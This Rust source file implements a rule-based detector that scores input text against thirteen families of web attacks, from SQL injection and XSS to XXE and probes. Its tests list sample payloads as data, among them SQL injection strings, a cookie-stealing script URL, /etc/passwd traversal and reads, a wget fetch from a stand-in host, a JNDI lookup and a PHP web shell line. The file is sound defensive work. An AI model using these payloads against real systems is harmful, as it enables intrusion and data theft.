//! What is an attack by rules that people wrote: the plain twin of the learner, and a floor below it.

use super::{
    normal::{Evasion, Normal},
    plain::{is_word, squeezed},
};

#[path = "rules/patterns.rs"]
mod patterns;
#[path = "rules/words.rs"]
mod words;

use words::Words;

/// Points of a family that make a hit.
pub const HIT: u32 = 3;

/// Bytes in which hints belong together, and how far on the next such stretch begins.
const NEAR: usize = 512;
const STEP: usize = 448;

/// Patterns of thirteen families of attacks, written from what is publicly known of them (OWASP's pages on each family, the
/// manuals of the databases, shells and template engines): a pattern alone is a hit, or a hint that makes one with others.
///
/// A match costs O(n): one pass over the places where a word may begin, and looks around each match. Blind spot: an attack without a word or sign that is here.
///
/// ```
/// use defend::intruder::{Normal, Rules};
///
/// let rules = Rules::new();
/// assert_eq!(rules.hits(&Normal::new(b"1%27%20OR/**/1=1--")), ["sqli"]);
/// assert!(rules.hits(&Normal::new("O'Brien and sons, select committee".as_bytes())).is_empty());
/// ```
#[derive(Debug, Clone)]
pub struct Rules {
    words: Words,
}

impl Default for Rules {
    fn default() -> Self {
        Self::new()
    }
}

/// Points by family, in the order of [`FAMILIES`].
pub type Points = [u32; FAMILIES.len()];

/// The families that rules know.
pub const FAMILIES: [&str; 13] = [
    "sqli",
    "xss",
    "traversal",
    "command",
    "template",
    "ldap",
    "xpath",
    "nosql",
    "xml",
    "crlf",
    "code",
    "probe",
    "scanner",
];

impl Rules {
    /// Sorts them: some milliseconds, about 100 KB.
    pub fn new() -> Self {
        let mut words = Words::new(patterns::PATTERNS.iter().map(|(_, _, word)| *word));
        for (first, seconds) in LOOKED {
            let any: Vec<u8> = if seconds.is_empty() { (0..128).collect() } else { seconds.to_vec() };
            any.into_iter().for_each(|second| words.look_at(first, second));
        }
        Self { words }
    }

    /// The families of attacks that the text is hit by, at [`HIT`] points or more.
    pub fn hits(&self, text: &Normal) -> Vec<&'static str> {
        let points = self.points(text);
        FAMILIES.iter().zip(points).filter(|(_, points)| *points >= HIT).map(|(family, _)| *family).collect()
    }

    /// Points of the family that has most. [`HIT`] or more is a hit.
    pub fn score(&self, text: &Normal) -> u32 {
        self.points(text).into_iter().max().unwrap_or(0)
    }

    /// Points of each family. A pattern counts once in 512 bytes: hints that stand further apart do not belong together.
    pub fn points(&self, text: &Normal) -> Points {
        self.points_in(text.text(), text.evasion(), &mut Room::default())
    }

    /// The same, in room that was used before.
    pub(super) fn points_in(&self, text: &[u8], evasion: Evasion, room: &mut Room) -> Points {
        let Room { words, squeezed: room, places } = room;
        squeezed(text, words, room);
        let length = room.len();
        room.extend_from_slice(&[0, 0]);
        let squeezed = room.get(..length).unwrap_or_default();
        let mut points = [0; FAMILIES.len()];
        let last = squeezed.len().saturating_sub(NEAR).div_ceil(STEP);
        for begin in (0..=last).map(|n| n * STEP) {
            let near = room.get(begin..length.min(begin + NEAR) + 2).unwrap_or_default();
            points.iter_mut().zip(self.points_of(near, places)).for_each(|(most, points)| *most = points.max(*most));
        }
        // A header's name is one only where a line begins; and a path to probe for is one where a path is.
        if !evasion.line {
            clear(&mut points, CRLF);
        }
        if !squeezed.starts_with(b"/") {
            clear(&mut points, PROBE);
        } else if squeezed.ends_with(b"~") {
            add(&mut points, PROBE, HIT);
        }
        if evasion.overlong {
            add(&mut points, TRAVERSAL, 2);
        }
        points
    }

    /// Points of what stands together; two bytes more are what comes after.
    fn points_of(&self, near: &[u8], places: &mut Vec<u16>) -> Points {
        let mut points = [0; FAMILIES.len()];
        self.words.may_begin(near, places);
        let near = near.split_last_chunk::<2>().map_or(near, |(near, _)| near);
        if places.is_empty() {
            return points;
        }
        let mut seen = [false; patterns::COUNT];
        let mut looked = [false; LOOKS];
        for at in places.iter().map(|at| usize::from(*at)) {
            let rest = near.get(at..).unwrap_or_default();
            for place in self.words.at(near, at) {
                let place = usize::from(*place);
                let (Some((family, worth, word)), Some(seen)) = (patterns::PATTERNS.get(place), seen.get_mut(place))
                else {
                    continue;
                };
                let word = word.as_bytes();
                if !*seen && begins(rest, word) && stands_alone(near, at, at + word.len(), word) {
                    *seen = true;
                    add(&mut points, *family as usize, *worth);
                }
            }
            look(near, at, &mut looked, &mut points);
        }
        points
    }
}

/// Whether a text begins with a word; most fail at the third byte, sooner than a call would.
fn begins(text: &[u8], word: &[u8]) -> bool {
    word.get(2).is_none_or(|third| text.get(2) == Some(third)) && text.starts_with(word)
}

/// Room to work in.
#[derive(Debug, Default)]
pub(super) struct Room {
    words: Vec<u8>,
    squeezed: Vec<u8>,
    places: Vec<u16>,
}

fn add(points: &mut Points, family: usize, worth: u32) {
    if let Some(points) = points.get_mut(family) {
        *points += worth;
    }
}

fn clear(points: &mut Points, family: usize) {
    if let Some(points) = points.get_mut(family) {
        *points = 0;
    }
}

const SQLI: usize = 0;
const XSS: usize = 1;
const TRAVERSAL: usize = 2;
const COMMAND: usize = 3;
const LDAP: usize = 5;
const CRLF: usize = 9;
const PROBE: usize = 11;

/// Whether a pattern that begins or ends with a letter does so where a word does.
fn stands_alone(text: &[u8], start: usize, end: usize, word: &[u8]) -> bool {
    let before = start.checked_sub(1).and_then(|place| text.get(place)).is_some_and(|byte| is_word(*byte));
    let after = text.get(end).is_some_and(|byte| is_word(*byte));
    let begins = word.first().is_some_and(|byte| is_word(*byte));
    let ends = word.last().is_some_and(|byte| is_word(*byte));
    !(before && begins || after && ends)
}

/// Kinds of looks.
const LOOKS: usize = 8;

/// Where looks are taken: at a byte, followed by one of these, or by any where there are none.
const LOOKED: [(u8, &[u8]); 9] = [
    (b'=', b""),
    (b's', b"e"),
    (b'o', b"n"),
    (b'\'', b")-#/"),
    (b'"', b")-#/"),
    (b'.', b"."),
    (b'\\', b"."),
    (b'$', b"("),
    (b')', b"("),
];

/// What no fixed words tell, at a place. Each counts once.
fn look(text: &[u8], at: usize, seen: &mut [bool; LOOKS], points: &mut Points) {
    let rest = text.get(at..).unwrap_or_default();
    let Some(byte) = rest.first() else { return };
    let (place, family, worth) = match byte {
        b'=' if is_truism(text, at) => (0, SQLI, HIT),
        b's' if follows(text, at, rest, b"select", b"from") => (1, SQLI, 2),
        b'o' if is_handler(text, at, rest) => (2, XSS, 2),
        b'\'' | b'"' if ends_statement(text, at) => (3, SQLI, HIT),
        b'.' if at == 0 && climbs(rest) >= 3 => (4, TRAVERSAL, 1),
        b'\\' if rest.starts_with(b"\\..\\..") => (5, TRAVERSAL, 1),
        b'$' if rest.starts_with(b"$(") => (6, COMMAND, 2),
        b')' if rest.starts_with(b")(") && text.contains(&b'=') && text.contains(&b'*') => (7, LDAP, 2),
        _ => return,
    };
    if let Some(seen) = seen.get_mut(place)
        && !std::mem::replace(seen, true)
    {
        add(points, family, worth);
    }
}

/// `1=1`, `'a'='a` after a word that asks for more.
fn is_truism(text: &[u8], at: usize) -> bool {
    let left = text.get(..at).unwrap_or_default();
    let right = text.get(at + 1..).unwrap_or_default();
    let quote = |byte: &u8| matches!(byte, b'\'' | b'"' | b'(' | b')' | b'%' | b'`');
    let left_end = left.len() - left.iter().rev().take(3).take_while(|byte| quote(byte)).count();
    let left_word = left.get(..left_end).unwrap_or_default();
    let length = left_word.iter().rev().take(32).take_while(|byte| is_word(**byte)).count();
    let (before, left_word) = left_word.split_at(left_end - length);
    let skip = right.iter().take(3).take_while(|byte| quote(byte)).count();
    let right_word = right.get(skip..).unwrap_or_default();
    let right_word =
        right_word.get(..right_word.iter().take(32).take_while(|byte| is_word(**byte)).count()).unwrap_or_default();
    let quoted = left_end < left.len() || skip > 0;
    let numbers = left_word.iter().chain(right_word).all(u8::is_ascii_digit);
    // Both sides empty are `''=''`.
    let alike = left_word == right_word && (quoted || numbers && length > 0);
    let asks = before.get(before.len().saturating_sub(10)..).unwrap_or_default();
    let asked = [&b"or"[..], b"and", b"||", b"&&", b"where", b"having", b"xor", b"not"]
        .iter()
        .any(|word| asks.windows(word.len()).any(|other| other == *word));
    alike && asked
}

/// A word, and another within a hundred bytes after it.
fn follows(text: &[u8], at: usize, rest: &[u8], word: &[u8], second: &[u8]) -> bool {
    if !rest.starts_with(word) || !stands_alone(text, at, at + word.len(), word) {
        return false;
    }
    let near = rest.get(..rest.len().min(100)).unwrap_or_default();
    near.windows(second.len()).any(|window| window == second)
}

/// `on…=` inside of a tag, or after a quote that could end an attribute.
fn is_handler(text: &[u8], at: usize, rest: &[u8]) -> bool {
    if !rest.starts_with(b"on") || !stands_alone(text, at, at, b"o") {
        return false;
    }
    let length = rest.iter().take(22).take_while(|byte| byte.is_ascii_lowercase()).count();
    let before = text.get(..at).unwrap_or_default();
    (5..=21).contains(&length)
        && rest.get(length) == Some(&b'=')
        && before.iter().any(|byte| matches!(byte, b'<' | b'"' | b'\'' | b'`'))
}

/// A quote, and then `--`, `#` or `;` with nothing before it but brackets: the rest of the statement is cut off.
fn ends_statement(text: &[u8], at: usize) -> bool {
    let rest = text.get(at + 1..).unwrap_or_default();
    let brackets = rest.iter().take(6).take_while(|byte| **byte == b')').count();
    let rest = rest.get(brackets..).unwrap_or_default();
    let cut = rest.starts_with(b"--") || rest == b"#" || rest.starts_with(b"/*");
    cut && text.iter().filter(|byte| Some(*byte) == text.get(at)).count() % 2 == 1
}

/// How many steps up a path begins with.
fn climbs(path: &[u8]) -> usize {
    path.chunks(3).take_while(|step| matches!(step, [b'.', b'.', b'/' | b'\\'])).count()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(text: &str) -> Vec<&'static str> {
        Rules::new().hits(&Normal::new(text.as_bytes()))
    }

    #[test]
    fn each_family_is_hit() {
        let cases = [
            ("sqli", "1' UnIoN/**/AlL SeLeCt null,null-- -"),
            ("sqli", "x' or 'a'='a"),
            ("sqli", "1;waitfor delay '0:0:5'--"),
            ("sqli", "admin'--"),
            ("xss", "%3Cscript%3Ealert(1)%3C/script%3E"),
            ("xss", "\"><img src=x onerror=alert(1)>"),
            ("xss", "javascript:alert(document.cookie)"),
            ("traversal", "../../../../etc/passwd"),
            ("traversal", "..%252f..%252f..%252fwindows/win.ini"),
            ("command", "; cat /etc/passwd"),
            ("command", "`wget http://x.example/a.sh`"),
            ("command", "| whoami"),
            ("template", "{{7*7}}"),
            ("template", "${jndi:ldap://x.example/a}"),
            ("ldap", "*)(uid=*))(|(uid=*"),
            ("xpath", "' or count(//user)=1 or 'a'='b"),
            ("nosql", "{\"$ne\": null, \"$gt\": \"\"}"),
            ("xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"),
            ("crlf", "x%0d%0aSet-Cookie: a=b"),
            ("code", "<?php system($_GET['c']); ?>"),
            ("probe", "/.git/config"),
        ];
        for (family, text) in cases {
            assert!(hits(text).contains(&family), "{family}: {text}: {:?}", hits(text));
        }
    }

    #[test]
    fn ordinary_text_is_not_hit() {
        for text in super::super::tests::ORDINARY {
            assert!(hits(text).is_empty(), "{text}: {:?}", hits(text));
        }
    }
}
